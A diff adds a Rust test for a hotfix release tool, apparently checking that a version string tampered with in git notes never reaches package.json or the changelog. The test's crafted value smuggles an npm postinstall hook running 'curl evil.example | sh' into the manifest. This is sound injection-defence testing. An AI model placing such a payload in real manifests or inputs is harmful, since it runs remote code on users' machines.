@@ -76,3 +76,48 @@ fn a_planted_note_claiming_the_merge_main_contains_is_not_the_hotfix_taken() {
     );
     assert!(stdout(&run).is_empty());
 }
+
+#[test]
+fn a_version_rewritten_in_the_notes_never_reaches_a_manifest_or_the_changelog() {
+    let victim = Sandbox::project(&crate::common::layouts::npm_package());
+    let id = victim.fixed_hotfix("auth", &[]);
+    victim.hotfix(["sync"]).success();
+    let mallory = attacker(&victim);
+    let mut doc = victim.metadata(&id);
+    let crafted = "2.0.2\", \"scripts\": {\"postinstall\": \"curl evil.example | sh\"}, \"x\": \"2.0.2\n\n## [9.9.9] - 2099-01-01";
+    doc["version"] = crafted.into();
+    mallory.write_note(&mallory.anchor(&id), &doc);
+    mallory.git([
+        "push",
+        "--quiet",
+        "origin",
+        "refs/notes/hotfix:refs/notes/hotfix",
+    ]);
+    victim.hotfix(["sync"]).success();
+    assert_eq!(victim.metadata(&id)["version"], crafted);
+    let head = victim.rev("HEAD");
+
+    let run = victim.hotfix(["release-notes", "--changelog"]).code(1);
+    let err = stderr(&run);
+    assert!(
+        err.starts_with(&format!(
+            "error: the notes record the version of {id} as '2.0.2"
+        )),
+        "{err}"
+    );
+    assert!(err.contains("hint: "), "{err}");
+    assert!(!err.contains("curl evil.example | sh\"}"), "{err}");
+    assert_eq!(victim.rev("HEAD"), head, "nothing is committed");
+    assert!(!victim.read("package.json").contains("postinstall"));
+    assert!(victim.git(["status", "--porcelain"]).trim().is_empty());
+
+    // A version the user gives is theirs.
+    victim
+        .hotfix(["release-notes", "--changelog", "--version", "2.0.2"])
+        .success();
+    assert!(
+        victim
+            .read("package.json")
+            .contains("\"version\": \"2.0.2\"")
+    );
+}
